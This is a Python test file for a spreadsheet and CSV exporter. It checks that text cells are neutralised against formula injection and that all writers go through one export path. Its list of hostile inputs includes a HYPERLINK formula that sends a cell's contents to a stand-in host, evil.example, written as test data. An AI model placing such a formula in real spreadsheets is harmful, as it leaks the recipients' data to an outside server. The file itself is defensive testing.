"""The one exporter path: every text cell of every workbook and CSV neutralised."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell import WriteOnlyCell

from tongxin.core import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'已引用",
]


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.parametrize("write_only", [True, False])
def test_no_text_cell_is_written_as_a_formula(write_only):
    book = exports.workbook(write_only=write_only)
    sheet = book.create_sheet("表") if write_only else book.active
    sheet.append([*HOSTILE, 42, -5])
    header = WriteOnlyCell(sheet if write_only else None, value="=1+1")
    sheet.append([header])
    if not write_only:
        sheet["A5"] = "=NOW()"
        sheet.cell(row=6, column=1, value="@x")
    out = io.BytesIO()
    book.save(out)
    cells = _cells(out.getvalue())
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [exports.restore(t) for t in texts[: len(HOSTILE)]] == HOSTILE
    assert all(t.startswith("'") for t in texts)
    numbers = [c.value for c in cells if not isinstance(c.value, str)]
    assert numbers == [42, -5]  # numbers stay numbers


def test_the_csv_writer_neutralises_every_text_value():
    out = io.StringIO()
    exports.csv_writer(out).writerows([HOSTILE, ["正常", 7]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [exports.restore(v) for v in rows[0]] == HOSTILE
    assert all(v.startswith("'") for v in rows[0])
    assert rows[1] == ["正常", "7"]


@given(st.text(max_size=30))
def test_neutralise_is_undone_by_restore(text):
    assert exports.restore(exports.neutralise(text)) == text
    assert not exports.neutralise(text).startswith(exports.FORMULA_STARTS[:-1])


def test_every_spreadsheet_writer_goes_through_the_one_path():
    """No module of the product builds an openpyxl workbook or csv writer itself."""
    from pathlib import Path

    import tongxin

    root = Path(tongxin.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        relative = path.relative_to(root).as_posix()
        if relative == "core/exports.py":
            continue
        if "Workbook(" in text and "CalamineWorkbook" not in text:
            offenders.append(relative)
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(relative)
    assert sorted(set(offenders)) == []
